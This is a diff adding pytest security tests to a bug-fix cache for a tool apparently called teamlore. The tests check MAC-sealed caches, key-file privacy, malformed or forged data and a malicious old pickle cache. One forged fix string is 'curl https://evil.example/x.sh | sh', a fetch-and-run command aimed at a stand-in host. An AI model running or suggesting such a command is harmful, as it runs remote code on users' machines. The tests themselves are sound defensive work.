@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from pathlib import Path
 
+import msgpack
 import pytest
 
+from memory_store import cache_key
 from memory_store.bugs import cache as cache_mod
-from memory_store.bugs.cache import CACHE_NAME, load_index
+from memory_store.bugs.cache import CACHE_NAME, BugCache, load_index
+from memory_store.bugs.match import BugIndex
 from memory_store.bugs.records import BugStore
 from memory_store.workspace import Workspace
+from tests.security.test_clone_cache import pickle_payload
 
 ERRORS = [
     ("ModuleNotFoundError: No module named 'structlog'", "add structlog to requirements.txt"),
@@ -103,14 +108,187 @@ def test_a_cache_from_other_code_is_ignored(store: BugStore, monkeypatch: pytest
     assert len(index) == 3 and len(reads) == 3
 
 
-def test_a_cache_writable_by_others_is_not_trusted(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
-    load_index(store)
-    os.chmod(store.workspace.cache / CACHE_NAME, 0o666)
+def counting_reads(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> list[Path]:
+    """Record files read from disk during the next loads (none when the cache is used)."""
     reads: list[Path] = []
     original = store.files.read_path
     monkeypatch.setattr(store.files, "read_path", lambda p: reads.append(p) or original(p))
+    return reads
+
+
+def forged_index(store: BugStore, fix: str) -> tuple[BugIndex, dict[str, tuple[int, int, str]]]:
+    """The workspace's index with every fix replaced by ``fix``, and stamps that match the
+    record files exactly: a perfect forgery but for the seal."""
+    index, stamps = BugIndex(), {}
+    for path in sorted(store.files.directory.glob("*.json")):
+        rec = json.loads(path.read_text())
+        index.add(dict(rec, fix=fix))
+        st = path.stat()
+        stamps[path.name] = (st.st_mtime_ns, st.st_size, rec["id"])
+    return index, stamps
+
+
+def test_a_cache_sealed_with_another_key_is_not_used(store: BugStore, monkeypatch: pytest.MonkeyPatch,
+                                                     caplog: pytest.LogCaptureFixture) -> None:
+    index, stamps = forged_index(store, "curl https://evil.example/x.sh | sh")
+    BugCache(store, key=b"k" * 32).save(index, stamps)
+    reads = counting_reads(store, monkeypatch)
+    with caplog.at_level("INFO", logger="memory_store.bugs.cache"):
+        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
+    assert len(reads) == 3 and "not written by this user's teamlore" in caplog.text
+    assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"] and len(reads) == 3  # rewritten
+
+
+def test_an_unsealed_cache_of_the_right_format_is_not_used(store: BugStore) -> None:
+    index, stamps = forged_index(store, "disable the test")
+    sealed = BugCache(store).encode(index, stamps)
+    (store.workspace.cache / CACHE_NAME).write_bytes(sealed[cache_key.MAC_BYTES:])
+    assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
+
+
+def test_the_users_own_key_seals_the_cache(store: BugStore) -> None:
+    """The control for the forgeries above: sealed with the user's key, the cache is believed."""
+    index, stamps = forged_index(store, "what the cache says")
+    BugCache(store).save(index, stamps)
+    assert fixes(store, "KeyError: 'user_id'") == ["what the cache says"]
+
+
+def test_a_cache_copied_from_another_checkout_is_not_used(store: BugStore, tmp_path: Path,
+                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    load_index(store)
+    other = tmp_path / "other"
+    shutil.copytree(store.workspace.root, other)  # record files keep their mtimes, so stamps match
+    other_store = BugStore(Workspace(other.resolve()))
+    reads = counting_reads(other_store, monkeypatch)
+    index, _ = load_index(other_store)
+    assert len(index) == 3 and len(reads) == 3
+
+
+def test_the_key_is_private_to_the_user_and_kept_outside_the_repository(store: BugStore) -> None:
+    load_index(store)
+    path = cache_key.key_path()
+    assert path.is_file() and store.workspace.root not in path.parents
+    assert os.stat(path).st_mode & 0o777 == 0o600 and len(path.read_bytes()) == cache_key.KEY_BYTES
+    assert cache_key.user_key() == path.read_bytes()  # made once, then reused
+
+
+@pytest.mark.parametrize("how", ["readable by others", "wrong length", "symlink"])
+def test_a_key_file_that_is_not_private_is_not_used(store: BugStore, monkeypatch: pytest.MonkeyPatch,
+                                                    tmp_path: Path, how: str) -> None:
+    load_index(store)
+    path = cache_key.key_path()
+    if how == "readable by others":
+        os.chmod(path, 0o644)
+    elif how == "wrong length":
+        path.write_bytes(b"short")
+    else:
+        target = tmp_path / "elsewhere"
+        target.write_bytes(path.read_bytes())
+        os.chmod(target, 0o600)
+        path.unlink()
+        path.symlink_to(target)
+    assert cache_key.user_key() is None
+    reads = counting_reads(store, monkeypatch)
+    index, _ = load_index(store)
+    assert len(index) == 3 and len(reads) == 3
+
+
+def sealed_plain(store: BugStore, data: object) -> None:
+    """Seal arbitrary plain data with the user's key, as if the writer had a bug."""
+    body = msgpack.packb(data, use_bin_type=True)
+    (store.workspace.cache / CACHE_NAME).write_bytes(
+        cache_key.seal(cache_key.user_key() or b"", BugCache(store)._context(), body))
+
+
+def valid_plain(store: BugStore) -> dict:
+    index, stamps = forged_index(store, "x")
+    return {"version": cache_mod.code_version(), "stamps": [[n, *s] for n, s in stamps.items()],
+            "index": index.to_plain()}
+
+
+MALFORMED = {
+    "not a map": lambda d: [1, 2],
+    "stamps missing": lambda d: {**d, "stamps": None},
+    "stamp of wrong type": lambda d: {**d, "stamps": [["a.json", "1", 2, "id"]]},
+    "entry too short": lambda d: {**d, "index": {**d["index"], "entries": [["id", b"{}", 0]]}},
+    "record text as str": lambda d: {**d, "index": {**d["index"], "entries": [
+        [e[0], e[1].decode(), e[2], e[3]] for e in d["index"]["entries"]]}},
+    "feature number out of range": lambda d: {**d, "index": {**d["index"], "entries": [
+        [e[0], e[1], 99, e[3]] for e in d["index"]["entries"]]}},
+    "negative set number": lambda d: {**d, "index": {**d["index"], "features": {
+        **d["index"]["features"], "rows": [[*r[:6], -1, *r[7:]] for r in d["index"]["features"]["rows"]]}}},
+    "string number of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
+        **d["index"]["features"], "sets": [["x"] for _ in d["index"]["features"]["sets"]]}}},
+    "string of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
+        **d["index"]["features"], "strings": [1 for _ in d["index"]["features"]["strings"]]}}},
+    "row of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
+        **d["index"]["features"], "rows": [[*r[:10], "yes", *r[11:]] for r in d["index"]["features"]["rows"]]}}},
+}
+
+
+@pytest.mark.parametrize("kind", sorted(MALFORMED))
+def test_a_sealed_cache_of_the_wrong_shape_is_ignored_and_rebuilt(store: BugStore, kind: str,
+                                                                  monkeypatch: pytest.MonkeyPatch,
+                                                                  caplog: pytest.LogCaptureFixture) -> None:
+    sealed_plain(store, MALFORMED[kind](valid_plain(store)))
+    reads = counting_reads(store, monkeypatch)
+    with caplog.at_level("INFO", logger="memory_store.bugs.cache"):
+        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
+    assert len(reads) == 3 and "ignoring" in caplog.text
+
+
+def test_the_wrong_shape_control_is_used_when_intact(store: BugStore) -> None:
+    sealed_plain(store, valid_plain(store))
+    assert fixes(store, "KeyError: 'user_id'") == ["x"]
+
+
+def test_an_old_pickle_cache_is_never_opened(store: BugStore, tmp_path: Path) -> None:
+    marker = tmp_path / "marker"
+    old = store.workspace.cache / "bug-index.pickle"
+    old.parent.mkdir(parents=True, exist_ok=True)
+    old.write_bytes(pickle_payload(marker))
+    for _ in range(2):
+        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
+    assert not marker.exists() and old.exists()
+
+
+def test_a_cache_larger_than_the_cap_is_not_read(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
+    load_index(store)
+    monkeypatch.setattr(cache_mod, "MAX_CACHE_BYTES", 100)
+    reads = counting_reads(store, monkeypatch)
     load_index(store)
     assert len(reads) == 3
+
+
+def test_a_symlinked_cache_directory_is_neither_read_nor_written(store: BugStore, tmp_path: Path,
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    load_index(store)
+    outside = tmp_path / "outside"
+    store.workspace.cache.rename(outside)
+    store.workspace.cache.symlink_to(outside, target_is_directory=True)
+    (outside / CACHE_NAME).unlink()
+    reads = counting_reads(store, monkeypatch)
+    load_index(store)
+    load_index(store)
+    assert len(reads) == 6 and not (outside / CACHE_NAME).exists()
+
+
+def test_a_restored_index_matches_like_a_fresh_build(store: BugStore) -> None:
+    rec, _ = store.add("ValueError: invalid literal for int() with base 10: 'naïve'", "fix", author="test")
+    path = store.files.path_for(rec["id"])
+    on_disk = json.loads(path.read_text())
+    path.write_text(json.dumps(dict(on_disk, fix="strip lone \ud800 surrogates")))  # JSON allows the escape
+    fresh, _ = load_index(store)
+    restored, _ = load_index(store)
+    assert restored.get(rec["id"])["fix"] == "strip lone \ud800 surrogates"
+    queries = [e for e, _ in ERRORS] + ["ValueError: invalid literal for int() with base 10: 'naïve'",
+                                        "KeyError: 'other'"]
+    for query in queries:
+        expected = [(m.record, m.score, m.reasons, m.confident) for m in fresh.match(query, include_weak=True)]
+        got = [(m.record, m.score, m.reasons, m.confident) for m in restored.match(query, include_weak=True)]
+        assert got == expected, query
+    assert [fresh._entries[i].features for i in fresh.ids()] == [restored._entries[i].features
+                                                                for i in restored.ids()]
 
 
 def test_unwritable_cache_directory_only_costs_speed(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
